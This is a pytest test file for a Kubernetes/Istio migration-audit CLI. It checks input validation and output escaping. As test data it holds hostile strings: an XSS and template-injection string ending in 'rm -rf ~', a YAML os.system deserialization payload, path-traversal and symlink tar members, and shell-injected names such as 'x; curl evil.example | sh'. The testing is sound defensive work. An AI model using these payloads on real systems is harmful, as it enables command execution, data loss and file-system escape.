"""Bad input: each is one clear line on stderr and exit 2, never a traceback, nothing written where it should not.

And hostile strings from a cluster (markup, template syntax, control characters, very long values) survive
JSON intact and come out escaped in every other format (CSV: control characters as `\x1b`) and on the terminal.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shlex
import subprocess
import tarfile
import tempfile
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any, ClassVar

import pytest
import yaml

from auditor import api
from auditor import kinds as K
from auditor.check import ClusterCheck
from auditor.cli.main import main
from auditor.findings import records
from auditor.model import Gate, Outcome, Severity, Status
from auditor.render import renderers
from tests import factory as f

DEMO = api.demo_snapshot_path()


def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, list[str]]:
    code = main(list(argv))
    err = capsys.readouterr().err
    return code, err.strip().splitlines()


def assert_usage_error(code: int, err: list[str], *expect: str) -> None:
    assert code == 2, err
    assert len(err) == 1, err
    assert err[0].startswith("asm-audit: error: ")
    assert "Traceback" not in err[0]
    for text in expect:
        assert text in err[0], err[0]


@pytest.fixture
def private_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A temp dir of our own for everything tempfile creates, so leftovers can be counted."""
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    return scratch


def snapshot_run(path: Path | str, tmp_path: Path, *extra: str) -> list[str]:
    return ["run", "--snapshot", str(path), "--out", str(tmp_path / "out"), "--format", "json", "--quiet", *extra]


# ---------------------------------------------------------------- kubeconfig and context
def write(path: Path, text: str | bytes) -> Path:
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text)
    return path


KUBECONFIG_OK_TAIL = ("clusters:\n- name: c\n  cluster: {server: 'https://127.0.0.1:1'}\n"
                      "users:\n- name: u\n  user: {token: t}\n")


@pytest.mark.parametrize("content, expect", [
    ("apiVersion: v1\nkind: Config\nclusters: [\n", ["malformed kubeconfig", "line 4"]),
    ("just text\n", ["is not a kubeconfig", "found str"]),
    (b"\xff\xfe\x00garbage", ["is not UTF-8"]),
    ("contexts: 5\ncurrent-context: x\n", ["'contexts' must be a list"]),
    ("apiVersion: v1\nkind: Config\ncontexts: []\nclusters: []\nusers: []\n", ["no current-context"]),
    ("current-context: x\ncontexts:\n- name: x\n  context: {cluster: c, user: u}\n"
     "clusters:\n- name: c\n  cluster: {server: 'not a url'}\nusers:\n- name: u\n  user: {token: t}\n",
     ["expected an https:// URL"]),
    ("current-context: x\ncontexts:\n- name: x\n  context: {cluster: c, user: u}\n"
     "clusters:\n- name: c\n  cluster: {server: 'https://127.0.0.1:1'}\n"
     "users:\n- name: u\n  user:\n    exec: {apiVersion: client.authentication.k8s.io/v1beta1, "
     "command: asm-audit-no-such-plugin}\n", ["credential plugin 'asm-audit-no-such-plugin'", "not installed"]),
    ("current-context: x\ncontexts:\n- name: x\n  context: {cluster: c, user: u}\n"
     "clusters:\n- name: c\n  cluster: {server: 'https://127.0.0.1:1'}\n"
     "users:\n- name: u\n  user:\n    exec: {apiVersion: client.authentication.k8s.io/v1beta1, "
     "command: 'false', interactiveMode: Never}\n", ["credential plugin failed", "process returned 1"]),
    ("current-context: x\ncontexts:\n- name: x\n  context: {cluster: missing, user: u}\n" + KUBECONFIG_OK_TAIL,
     ["missing"]),
    ("current-context: x\ncontexts:\n- name: x\n  context: {cluster: c, user: u2}\n"
     "clusters:\n- name: c\n  cluster: {server: 'https://127.0.0.1:1'}\n"
     "users:\n- name: u2\n  user: {client-certificate: /no/such/cert, client-key: /no/such/key}\n",
     ["/no/such/cert"]),
], ids=["yaml-syntax", "not-a-mapping", "binary", "contexts-not-list", "no-current-context", "bad-server",
        "missing-exec-plugin", "failing-exec-plugin", "context-to-missing-cluster", "missing-client-cert"])
def test_malformed_kubeconfig_is_one_line_exit_2(tmp_path, capsys, content, expect):
    kc = write(tmp_path / "kubeconfig", content)
    code, err = run_cli(capsys, "run", "--kubeconfig", str(kc), "--out", str(tmp_path / "out"), "--quiet")
    assert_usage_error(code, err, *expect)
    assert not (tmp_path / "out").exists()


def test_missing_kubeconfig_file(tmp_path, capsys):
    code, err = run_cli(capsys, "run", "--kubeconfig", str(tmp_path / "nope"), "--quiet")
    assert_usage_error(code, err, "kubeconfig", "nope", "not found")


def test_no_kubeconfig_at_all(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("KUBECONFIG", str(tmp_path / "absent"))
    monkeypatch.delenv("ASM_KUBECONFIG", raising=False)
    code, err = run_cli(capsys, "run", "--quiet")
    assert_usage_error(code, err, "no kubeconfig", "--snapshot")


def test_unknown_context_names_the_ones_there_are(tmp_path, capsys, fake_api):
    kc = fake_api.write_kubeconfig(tmp_path / "kc", context="prod-a")
    code, err = run_cli(capsys, "run", "--kubeconfig", str(kc), "--context", "prod-z", "--quiet")
    assert_usage_error(code, err, "unknown context 'prod-z'", "contexts: prod-a")
    assert fake_api.requests == []  # refused before any request


def test_unknown_context_in_a_cluster_flag(tmp_path, capsys, fake_api):
    kc = fake_api.write_kubeconfig(tmp_path / "kc", context="prod-a")
    code, err = run_cli(capsys, "run", "--cluster", f"a={kc}@prod-a", "--cluster", f"b={kc}@nope", "--quiet")
    assert_usage_error(code, err, "cluster b", "unknown context 'nope'")
    assert fake_api.requests == []


# ---------------------------------------------------------------- options
@pytest.mark.parametrize("argv, expect", [
    (["run", "--phase", "deploy"], ["unknown phase 'deploy'"]),
    (["run", "--format", "xml"], ["unknown format 'xml'"]),
    (["run", "--format", ","], ["unknown format"]),
    (["run", "--cluster", "no-equals-sign"], ["expected NAME=KUBECONFIG[@CONTEXT]"]),
    (["run", "--timeout", "soon"], ["'--timeout'"]),
    (["run", "--snapshot", "x", "--kubeconfig", "y"], ["cannot be combined"]),
    (["run", "--no-such-flag"], ["No such option"]),
    (["checks", "--phase", "nope"], ["unknown phase 'nope'"]),
    (["checks", "--format", "pdf"], ["unknown format 'pdf'"]),
    (["demo", "--phase", "nope"], ["unknown phase 'nope'"]),
    (["rbac", "--format", "toml"], ["unknown format 'toml'"]),
    (["snapshot", "--out", "x.zip"], [".tar.gz"]),
    (["frobnicate"], ["No such command"]),
])
def test_bad_options_are_one_line_exit_2(tmp_path, capsys, monkeypatch, argv, expect):
    monkeypatch.chdir(tmp_path)
    code, err = run_cli(capsys, *argv)
    assert_usage_error(code, err, *expect)


def test_duplicate_cluster_names(tmp_path, capsys, fake_api):
    kc = fake_api.write_kubeconfig(tmp_path / "kc", context="prod-a")
    code, err = run_cli(capsys, "run", "--cluster", f"a={kc}", "--cluster", f"a={kc}", "--quiet")
    assert_usage_error(code, err, "unique")


# ---------------------------------------------------------------- snapshots: files
def snap_dir(tmp_path: Path, files: dict[str, str | bytes]) -> Path:
    root = tmp_path / "snap"
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        write(path, content)
    return root


POD_OK = yaml.safe_dump(f.pod("ok-1"))


@pytest.mark.parametrize("files, expect", [
    ({"c1/pods.yaml": POD_OK + "---\napiVersion: v1\nkind: Pod\nmetadata: name: x\n"},
     [f"c1/pods.yaml: line {POD_OK.count(chr(10)) + 4}:", "malformed YAML", "mapping values are not allowed"]),
    ({"c1/pods.json": '{\n  "apiVersion": "v1",\n  "kind": "Pod",\n  oops\n}'},
     ["c1/pods.json: malformed JSON at line 4"]),
    ({"c1/pods.yaml": b"apiVersion: v1\nkind: Pod\nmetadata: {name: caf\xe9}\n"}, ["c1/pods.yaml", "not UTF-8"]),
    ({"c1/pods.yaml": "- a\n- b\n"}, ["expected a Kubernetes object or List, found list"]),
    ({"c1/pods.yaml": "apiVersion: v1\nmetadata: {name: x}\n"}, ["has no 'kind'"]),
    ({"c1/pods.yaml": "apiVersion: v1\nkind: Pod\nmetadata: {namespace: a}\n"}, ["Pod object without metadata.name"]),
    ({"c1/pods.yaml": "apiVersion: v1\nkind: Pod\nmetadata: {name: x, labels: {a: 1}}\n"},
     ["Pod 'x': metadata.labels must map strings to strings"]),
    ({"c1/pods.yaml": "apiVersion: v1\nkind: Pod\nmetadata: {name: x, namespace: [a]}\n"},
     ["metadata.namespace must be a string"]),
    ({"c1/pods.yaml": "apiVersion: v1\nkind: Pod\nmetadata: {name: x, ownerReferences: [5]}\n"},
     ["metadata.ownerReferences"]),
    ({"c1/pods.yaml": "apiVersion: v1\nkind: List\nitems: [5]\n"}, ["a List item is not an object"]),
    ({"c1/pods.yaml": "!!python/object/apply:os.system ['echo pwned']\n"}, ["c1/pods.yaml", "malformed YAML"]),
    ({"c1/pods.yaml": "a: " + "[" * 5000 + "]" * 5000 + "\n"}, ["c1/pods.yaml"]),
    ({"c1/pods.json": "[" * 5000 + "]" * 5000}, ["c1/pods.json: malformed JSON"]),
    ({"c1/pods.yaml": POD_OK, "c1/version.json": "{nope"}, ["c1/version.json", "malformed JSON"]),
    ({"c1/pods.yaml": POD_OK, "c1/version.json": "[1]"}, ["c1/version.json", "expected the /version object"]),
    ({"c1/pods.yaml": POD_OK, "manifest.json": "{\n\n  nope"}, ["manifest.json: malformed JSON at line 3"]),
    ({"c1/pods.yaml": POD_OK, "manifest.json": '{"clusters": 5}'}, ["'clusters' must be a list"]),
    ({"c1/pods.yaml": POD_OK, "manifest.json": '{"clusters": [{"name": "c1", "dir": 5}]}'},
     ["'dir' must be a string"]),
    ({"c1/pods.yaml": POD_OK, "manifest.json": '{"clusters": [{"name": "c1", "dir": "../../etc"}]}'},
     ["missing or outside the snapshot"]),
    ({"c1/pods.yaml": POD_OK, "manifest.json": '{"clusters": [{"name": "c1", "kinds": [1]}]}'},
     ["'kinds' must map"]),
    ({"c1/pods.yaml": POD_OK, "manifest.json": '{"clusters": [{"name": "c1", "role": "boss"}]}'},
     ["unknown role 'boss'"]),
    ({"c1/pods.yaml": POD_OK, "manifest.json": '{"clusters": [{"name": "c1"}, {"name": "c1"}]}'},
     ["must be unique"]),
    ({"c1/pods.yaml": POD_OK, "manifest.json": '{"asm_openapi": []}'}, ["'asm_openapi' must be a JSON object"]),
    ({"asm/x.yaml": POD_OK}, ["holds no data-plane cluster"]),
], ids=lambda v: None)
def test_malformed_snapshot_is_one_line_naming_the_file(tmp_path, capsys, files, expect):
    root = snap_dir(tmp_path, files)
    code, err = run_cli(capsys, *snapshot_run(root, tmp_path, "--phase", "uninstall"))
    assert_usage_error(code, err, *expect)
    assert not (tmp_path / "out").exists()


def test_missing_snapshot_path(tmp_path, capsys):
    code, err = run_cli(capsys, *snapshot_run(tmp_path / "nope.tar.gz", tmp_path))
    assert_usage_error(code, err, "does not exist")


# ---------------------------------------------------------------- snapshots: archives
def tarball(path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]]) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            else:
                tar.addfile(info)
    return path


def member(name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    info.mode = 0o644
    return info


GOOD = POD_OK.encode()


@pytest.mark.parametrize("bad, expect", [
    ((member("{escape}/pwned.yaml"), GOOD), "unsafe member path"),
    ((member("c1/../../pwned.yaml"), GOOD), "unsafe member path"),
    ((member("../pwned.yaml"), GOOD), "unsafe member path"),
    ((member("C:/pwned.yaml"), GOOD), "unsafe member path"),
    ((member("c1/evil\x1b[2J.yaml"), GOOD), "unsafe member path"),
    ((member("c1/link.yaml", tarfile.SYMTYPE, "/etc/passwd"), None), "is a link"),
    ((member("c1/rel.yaml", tarfile.SYMTYPE, "../../../pwned"), None), "is a link"),
    ((member("c1/hard.yaml", tarfile.LNKTYPE, "c1/pods.yaml"), None), "is a link"),
    ((member("c1/tty", tarfile.CHRTYPE), None), "device or special file"),
    ((member("c1/disk", tarfile.BLKTYPE), None), "device or special file"),
    ((member("c1/pipe", tarfile.FIFOTYPE), None), "device or special file"),
], ids=["absolute", "dotdot-inside", "dotdot", "drive", "control-chars", "symlink-abs", "symlink-rel",
        "hardlink", "char-device", "block-device", "fifo"])
def test_unsafe_archive_members_are_refused_and_nothing_is_written(tmp_path, capsys, private_tmp, bad, expect):
    escape = tmp_path / "escape"
    info, data = bad
    info.name = info.name.replace("{escape}", str(escape))
    archive = tarball(tmp_path / "snap.tar.gz", [(member("c1/pods.yaml"), GOOD), (info, data)])
    code, err = run_cli(capsys, *snapshot_run(archive, tmp_path))
    assert_usage_error(code, err, str(archive), expect, "refusing")
    assert not escape.exists() and not (tmp_path / "pwned.yaml").exists()
    assert list(private_tmp.iterdir()) == []  # the extraction dir is gone too
    assert not (tmp_path / "out").exists()


def test_archive_too_large_is_refused(tmp_path, capsys, private_tmp, monkeypatch):
    archive = tarball(tmp_path / "snap.tar.gz", [(member("c1/pods.yaml"), GOOD),
                                                 (member("c1/more.yaml"), GOOD)])
    monkeypatch.setenv("ASM_AUDIT_MAX_SNAPSHOT_BYTES", str(len(GOOD) + 10))
    code, err = run_cli(capsys, *snapshot_run(archive, tmp_path))
    assert_usage_error(code, err, "expands to more than", "ASM_AUDIT_MAX_SNAPSHOT_BYTES")
    assert list(private_tmp.iterdir()) == []


def test_archive_with_too_many_members_is_refused(tmp_path, capsys, private_tmp, monkeypatch):
    archive = tarball(tmp_path / "snap.tar.gz", [(member(f"c1/p{i}.yaml"), GOOD) for i in range(6)])
    monkeypatch.setenv("ASM_AUDIT_MAX_SNAPSHOT_MEMBERS", "5")
    code, err = run_cli(capsys, *snapshot_run(archive, tmp_path))
    assert_usage_error(code, err, "more than 5 members", "ASM_AUDIT_MAX_SNAPSHOT_MEMBERS")
    assert list(private_tmp.iterdir()) == []


def test_within_the_limits_the_same_archive_is_read(tmp_path, capsys, private_tmp, monkeypatch):
    """The limits refuse what exceeds them, not everything: the control for the two tests above."""
    archive = tarball(tmp_path / "snap.tar.gz", [(member(f"c1/p{i}.yaml"), GOOD) for i in range(5)])
    monkeypatch.setenv("ASM_AUDIT_MAX_SNAPSHOT_MEMBERS", "5")
    monkeypatch.setenv("ASM_AUDIT_MAX_SNAPSHOT_BYTES", str(5 * len(GOOD)))
    code, _ = run_cli(capsys, *snapshot_run(archive, tmp_path, "--phase", "uninstall"))
    assert code in (1, 3)
    assert (tmp_path / "out" / "findings.json").exists()
    assert list(private_tmp.iterdir()) == []  # removed once the audit is done


@pytest.mark.parametrize("value", ["lots", "-1", "0"])
def test_bad_limit_setting_is_a_usage_error(tmp_path, capsys, monkeypatch, value):
    archive = tarball(tmp_path / "snap.tar.gz", [(member("c1/pods.yaml"), GOOD)])
    monkeypatch.setenv("ASM_AUDIT_MAX_SNAPSHOT_BYTES", value)
    code, err = run_cli(capsys, *snapshot_run(archive, tmp_path))
    assert_usage_error(code, err, "ASM_AUDIT_MAX_SNAPSHOT_BYTES")


@pytest.mark.parametrize("content", [b"not a tarball at all", b"\x1f\x8b\x08\x00garbage-gzip", b""])
def test_corrupt_archive_is_a_usage_error(tmp_path, capsys, private_tmp, content):
    archive = write(tmp_path / "snap.tar.gz", content)
    code, err = run_cli(capsys, *snapshot_run(archive, tmp_path))
    assert_usage_error(code, err, "snap.tar.gz")
    assert list(private_tmp.iterdir()) == []


def test_truncated_archive_is_a_usage_error(tmp_path, capsys, private_tmp):
    whole = tarball(tmp_path / "whole.tar.gz", [(member(f"c1/p{i}.yaml"), GOOD * 50) for i in range(20)])
    archive = write(tmp_path / "snap.tar.gz", whole.read_bytes()[: whole.stat().st_size // 2])
    code, err = run_cli(capsys, *snapshot_run(archive, tmp_path))
    assert_usage_error(code, err, "snap.tar.gz", "not a readable .tar.gz")
    assert list(private_tmp.iterdir()) == []


# ---------------------------------------------------------------- config
@pytest.mark.parametrize("config, expect", [
    ("colour: red\n", ["unknown key 'colour'"]),
    ("checks:\n  disable: []\n  enable: [x]\n", ["unknown key", "enable"]),
    ("exemptions:\n  - check: pods-xds-agent\n    namespace: shop\n", ["exemptions", "reason"]),
    ("exemptions:\n  - check: pods-xds-agent\n    reason: '   '\n", ["non-empty reason"]),
    ("exemptions:\n  - check: pods-xds-agent\n    reason: r\n    expires: someday\n", ["expires"]),
    ("exemptions:\n  - check: no-such-check\n    reason: r\n", ["unknown check id"]),
    ("checks:\n  disable: [no-such-check]\n", ["unknown check id"]),
    ("checks: {disable: [x]\n", ["line 2", "malformed YAML"]),
    ("- a\n- b\n", ["expected a mapping"]),
], ids=["unknown-top-key", "unknown-nested-key", "exemption-without-reason", "blank-reason", "bad-expiry",
        "exemption-unknown-check", "disable-unknown-check", "yaml-syntax", "not-a-mapping"])
def test_bad_config_is_one_line_exit_2(tmp_path, capsys, config, expect):
    path = write(tmp_path / "config.yaml", config)
    code, err = run_cli(capsys, *snapshot_run(DEMO, tmp_path, "--config", str(path)))
    assert_usage_error(code, err, *expect)


def test_missing_config_file(tmp_path, capsys):
    code, err = run_cli(capsys, *snapshot_run(DEMO, tmp_path, "--config", str(tmp_path / "nope.yaml")))
    assert_usage_error(code, err, "nope.yaml")


def _first_blocker(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict[str, Any]]:
    code, _ = run_cli(capsys, *snapshot_run(DEMO, tmp_path, "--phase", "migrating"))
    doc = json.loads((tmp_path / "out" / "findings.json").read_text())
    return code, next(r for r in doc["findings"] if r["status"] == "FAIL" and r["severity"] == "blocker")


@pytest.mark.parametrize("expires, applied", [("2020-01-31", False), ("2999-01-31", True)])
def test_expired_exemption_is_listed_and_not_applied_not_an_error(tmp_path, capsys, expires, applied):
    baseline_code, target = _first_blocker(tmp_path / "base", capsys)
    config = write(tmp_path / "config.yaml", yaml.safe_dump({"exemptions": [{
        "check": target["check_id"], "cluster": target["cluster"], "namespace": target["namespace"],
        "name": target["name"], "reason": "CHG-1: tested", "expires": expires}]}))
    code, err = run_cli(capsys, *snapshot_run(DEMO, tmp_path, "--phase", "migrating", "--config", str(config)))
    doc = json.loads((tmp_path / "out" / "findings.json").read_text())
    [row] = [r for r in doc["findings"] if (r["check_id"], r["cluster"], r["namespace"], r["name"]) == (
        target["check_id"], target["cluster"], target["namespace"], target["name"])]
    assert row["exempt"] is applied
    expired = [e for e in doc["exemptions"]["expired"] if e["check"] == target["check_id"]]
    if applied:
        assert not expired
    else:
        assert expired and str(expired[0]["expires"]).startswith("2020-01-31")
        assert any("expired" in n for n in doc["notes"])
        assert code == baseline_code  # the expired exemption changed nothing
        assert not [line for line in err if "error" in line]


# ---------------------------------------------------------------- garbage versions
@pytest.mark.parametrize("git_version", ["garbage", "v1.x", "", "v99999999999999999999999.1", "vé.1", "version-one"])
def test_garbage_kubernetes_version_is_unknown_never_pass(tmp_path, capsys, fake_api, git_version):
    fake_api.set_version(git_version, major="x", minor="y")
    fake_api.load([f.namespace("shop")])
    kc = fake_api.write_kubeconfig(tmp_path / "kc", context="prod")
    code, _ = run_cli(capsys, "run", "--kubeconfig", str(kc), "--phase", "assessment", "--out",
                      str(tmp_path / "out"), "--format", "json", "--quiet")
    doc = json.loads((tmp_path / "out" / "findings.json").read_text())
    [row] = [r for r in doc["findings"] if r["check_id"] == "kubernetes-version"]
    assert row["status"] == "UNKNOWN"
    assert code != 0 and doc["verdict"] != "GO"


@pytest.mark.parametrize("tag", ["latest", "banana", "1.x.3", "sha256:" + "0" * 64, ""])
def test_garbage_istio_version_is_unknown_never_pass(tmp_path, capsys, tag):
    istiod = f.istiod()
    image = f"docker.io/istio/pilot:{tag}" if tag else "docker.io/istio/pilot"
    istiod["spec"]["template"]["spec"]["containers"][0]["image"] = image
    for key in ("app.kubernetes.io/version", "operator.istio.io/version"):
        istiod["metadata"]["labels"].pop(key, None)
    snap = f.write_snapshot(tmp_path / "snap", {"c1": [istiod, f.namespace("istio-system")]},
                            versions={"c1": f.version_info()})
    code, _ = run_cli(capsys, *snapshot_run(snap, tmp_path, "--phase", "assessment"))
    doc = json.loads((tmp_path / "out" / "findings.json").read_text())
    rows = [r for r in doc["findings"] if r["check_id"] == "istio-version"]
    assert rows and "PASS" not in {r["status"] for r in rows}
    assert "UNKNOWN" in {r["status"] for r in rows}
    assert doc["verdict"] != "GO" and code != 0


@pytest.mark.parametrize("version", ["banana", "v1.x", "latest", "x1.24.6"])
def test_garbage_asm_version_in_config_is_never_pass(tmp_path, capsys, version):
    config = write(tmp_path / "c.yaml", yaml.safe_dump({"asm": {"version": version}}))
    snap = f.write_snapshot(tmp_path / "snap", {"c1": [f.namespace("istio-system")]},
                            versions={"c1": f.version_info()})
    code, err = run_cli(capsys, *snapshot_run(snap, tmp_path, "--phase", "assessment", "--config", str(config)))
    if code == 2:  # refusing the config outright is fine too, as one line
        assert_usage_error(code, err, "asm")
        return
    doc = json.loads((tmp_path / "out" / "findings.json").read_text())
    rows = [r for r in doc["findings"] if r["check_id"] == "asm-version"]
    assert rows and "PASS" not in {r["status"] for r in rows}
    assert doc["verdict"] != "GO"


# ---------------------------------------------------------------- hostile strings from the cluster
HOSTILE = ("<script>alert('x')</script><img src=x onerror=alert(1)>{{ 7*7 }}{% if 1 %}JINJA{% endif %}"
           "${7*7}\x1b[31mRED\x1b]0;title\x07\x00NUL|pipe|`tick```fence\n# heading\r]]>&amp;\u202eevil.exe;"
           "rm -rf ~")
LONG = "L" * 200_000


def hostile_snapshot(root: Path) -> Path:
    """Names, labels, an image tag and the version string carrying markup, templates, control characters."""
    dep, rs = f.deployment("cart")
    dep["metadata"]["name"] = HOSTILE
    rs["metadata"]["ownerReferences"][0]["name"] = HOSTILE
    pods = f.workload_pods((dep, rs), 2, proxy="istio", labels={"team": HOSTILE})
    long_dep, long_rs = f.deployment("long")
    long_dep["metadata"]["name"] = LONG
    long_rs["metadata"]["ownerReferences"][0]["name"] = LONG
    long_pods = f.workload_pods((long_dep, long_rs), 1, proxy="istio", image="docker.io/istio/proxyv2:" + HOSTILE)
    objects = [f.namespace("shop"), f.namespace("istio-system"), dep, rs, *pods, long_dep, long_rs, *long_pods]
    directory = root / "c1"
    directory.mkdir(parents=True)
    # JSON, because YAML cannot carry raw control characters; json.dumps escapes them as \\u001b etc.
    (directory / "objects.json").write_text(json.dumps({"apiVersion": "v1", "kind": "List", "items": objects}))
    (directory / "version.json").write_text(json.dumps(f.version_info("v1.30.4-" + HOSTILE)))
    return root


CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def test_hostile_strings_are_kept_in_data_formats_and_escaped_everywhere_else(tmp_path, capsys):
    snap = hostile_snapshot(tmp_path / "snap")
    formats = sorted(renderers())
    assert {"json", "csv", "html", "pdf", "junit", "md"} <= set(formats)  # every renderer of this build
    out = tmp_path / "out"
    code = main(["run", "--snapshot", str(snap), "--phase", "uninstall", "--format", ",".join(formats),
                 "--out", str(out)])
    err = capsys.readouterr().err
    assert code == 1  # the hostile workloads still run Istio sidecars: NO-GO, judged normally

    # Terminal: no raw control character reaches it (no recolouring, retitling, line forging).
    assert not CONTROL.search(err), repr(CONTROL.search(err))
    assert "\u202e" not in err and "\\x1b" in err

    # JSON: exact round trip of every hostile value.
    doc = json.loads((out / "findings.json").read_text(encoding="utf-8"))
    names = {r["name"] for r in doc["findings"]}
    assert HOSTILE in names and LONG in names

    # CSV: one record per finding, values kept but control and bidi characters shown as escapes (`cat` runs
    # no terminal escape, a CR forges no row); the 200k name needs more than csv's default field limit.
    csv.field_size_limit(1 << 24)
    with (out / "findings.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(doc["findings"])
    shown = (HOSTILE.replace("\x1b", "\\x1b").replace("\x07", "\\x07").replace("\x00", "\\x00")
             .replace("\r", "\\x0d").replace("\u202e", "\\u202e"))
    assert shown in {r["name"] for r in rows}

    # Copy-paste commands never carry the name unquoted: quoted as one shell word, or not shown at all.
    remediations = [r["remediation"] for r in doc["findings"] if r["name"] == HOSTILE and r["remediation"]]
    assert remediations
    assert all(HOSTILE not in rem for rem in remediations)
    assert any(shlex.quote(HOSTILE) in rem or rem.startswith("# no command shown") for rem in remediations)

    # HTML: markup escaped, templates not evaluated, no control characters; parses as HTML.
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "<script>alert('x')" not in html and "<img src=x onerror" not in html
    assert "&lt;script&gt;alert(" in html
    assert "JINJA" in html and "{% if 1 %}" in html and "{{ 7*7 }}" in html  # shown literally, not run
    assert not CONTROL.search(html)
    from html.parser import HTMLParser

    HTMLParser().feed(html)

    # JUnit: well-formed XML 1.0 with the strings escaped (no raw control characters allowed in XML).
    junit = (out / "junit.xml").read_text(encoding="utf-8")
    assert not CONTROL.search(junit)
    ET.fromstring(junit.encode("utf-8"))
    assert "<script>" not in junit

    # Markdown: no raw HTML, no control characters; table rows keep their column count.
    md = (out / "summary.md").read_text(encoding="utf-8")
    assert "<script>" not in md.split("```")[0] and "<img" not in md.split("```")[0]
    assert not CONTROL.search(md)
    header = next(line for line in md.splitlines() if line.startswith("| Severity"))
    for line in md.splitlines():
        if line.startswith("| ") and "HOSTILE" not in line and "istio-sidecars-remaining" in line:
            assert _cells(line) == _cells(header), line

    # PDF: the markup is shown as text (escaped in the HTML it was made from), templates not evaluated.
    text = _pdf_text(out / "report.pdf")
    assert "<script>alert('x')</script>" in text or "&lt;script" not in text
    assert "JINJA" in text and "{{ 7*7 }}" in text


def _cells(line: str) -> int:
    return len(re.findall(r"(?<!\\)\|", line))


def _pdf_text(path: Path) -> str:
    try:
        return subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, text=True,
                              check=True, timeout=60).stdout
    except FileNotFoundError:
        from pypdf import PdfReader

        return "\n".join(page.extract_text() or "" for page in PdfReader(str(path)).pages)


def test_hostile_strings_through_the_live_source(tmp_path, capsys, fake_api):
    """The same through the real client: JSON escapes for control characters arrive as the characters."""
    dep, rs = f.deployment("cart")
    dep["metadata"]["name"] = HOSTILE
    rs["metadata"]["ownerReferences"][0]["name"] = HOSTILE
    fake_api.load([f.namespace("shop"), dep, rs, *f.workload_pods((dep, rs), 2, proxy="istio")])
    kc = fake_api.write_kubeconfig(tmp_path / "kc", context="prod")
    out = tmp_path / "out"
    code = main(["run", "--kubeconfig", str(kc), "--phase", "uninstall", "--format", "json,html,md,junit",
                 "--out", str(out)])
    err = capsys.readouterr().err
    assert code in (1, 3)
    assert not CONTROL.search(err)
    doc = json.loads((out / "findings.json").read_text())
    assert HOSTILE in {r["name"] for r in doc["findings"]}
    assert "<script>alert('x')" not in (out / "report.html").read_text()
    ET.fromstring((out / "junit.xml").read_bytes())


def test_usage_errors_from_the_installed_command_are_one_line(tmp_path):
    """Through the console script in a subprocess: no logging noise, no traceback, exit 2."""
    kc = write(tmp_path / "kc", "apiVersion: v1\nkind: Config\nclusters: [\n")
    proc = subprocess.run(["asm-audit", "run", "--kubeconfig", str(kc), "--quiet"], capture_output=True, text=True,
                          timeout=120, cwd=tmp_path)
    assert proc.returncode == 2
    assert proc.stderr.strip().splitlines() == [
        f"asm-audit: error: cluster default: malformed kubeconfig {kc} line 4: expected the node content, "
        "but found '<stream end>'"] or (len(proc.stderr.strip().splitlines()) == 1 and "line 4" in proc.stderr)
    assert proc.stdout == ""


def test_exemption_expiry_uses_the_run_date(tmp_path):
    """An exemption expiring today still applies; yesterday's does not (dates, not datetimes)."""
    from auditor.config import Exemption

    today = dt.date(2026, 11, 20)
    assert not Exemption(check="x", reason="r", expires=today).expired(today)
    assert Exemption(check="x", reason="r", expires=today - dt.timedelta(days=1)).expired(today)


class _NaiveCommand(ClusterCheck):
    """A plugin that formats its command with a plain f-string, as most do."""

    id = "plugin-naive-command"
    title = "Naive command"
    gates: ClassVar = (Gate.UNINSTALL,)
    severity = Severity.MAJOR
    rationale = "test"
    remediation = "test"
    outcomes: ClassVar = (Outcome("NAV001", Status.PASS, "ok"), Outcome("NAV010", Status.FAIL, "a command"),
                          Outcome("NAV020", Status.WARN, "a command"))
    needs: ClassVar = (K.DEPLOYMENT,)

    def check_cluster(self, cluster, ctx):
        for dep in cluster.objects(K.DEPLOYMENT):
            meta = dep["metadata"]
            yield self.fail(cluster.name, "found", kind="Deployment", namespace=meta["namespace"],
                            name=meta["name"], remediation=f"kubectl -n {meta['namespace']} delete deployment "
                            f"{meta['name']}")


@pytest.mark.parametrize("name, shown", [("cart", True), ("x; curl evil.example | sh", False),
                                         ("x\nrm -rf ~", False), ("$(reboot)", False), ("system:auth-reader", True),
                                         ("--all", False)])
def test_commands_around_names_with_shell_metacharacters_are_withheld(tmp_path, name, shown):
    dep, _ = f.deployment("cart")
    dep["metadata"]["name"] = name
    snap = f.write_snapshot(tmp_path / "snap", {"c1": [dep]}, versions={"c1": f.version_info()})
    result = api.run_audit(api.Target(snapshot=str(snap)), "uninstall", extra_checks=[_NaiveCommand])
    [row] = [r for r in records(result.findings) if r["check_id"] == "plugin-naive-command"]
    if shown:
        assert row["remediation"] == f"kubectl -n shop delete deployment {name}"
    else:
        assert row["remediation"].startswith("# no command shown: the name ")
        assert "\n" not in row["remediation"]  # one shell comment line: inert even if pasted


def test_clusters_whose_kubeconfig_variables_collide_are_refused(tmp_path, capsys):
    """prod-1 and prod_1 would both be "${KUBECONFIG_PROD_1:?}": commands for one would hit the other."""
    objects = [f.namespace("shop")]
    snap = f.write_snapshot(tmp_path / "snap", {"prod-1": objects, "prod_1": objects}, manifest={
        "clusters": [{"name": "prod-1", "role": "data-plane", "dir": "prod-1"},
                     {"name": "prod_1", "role": "data-plane", "dir": "prod_1"}]})
    code, err = run_cli(capsys, "run", "--snapshot", str(snap), "--out", str(tmp_path / "out"), "--quiet")
    assert_usage_error(code, err, "'prod-1' and 'prod_1'", "KUBECONFIG_PROD_1")
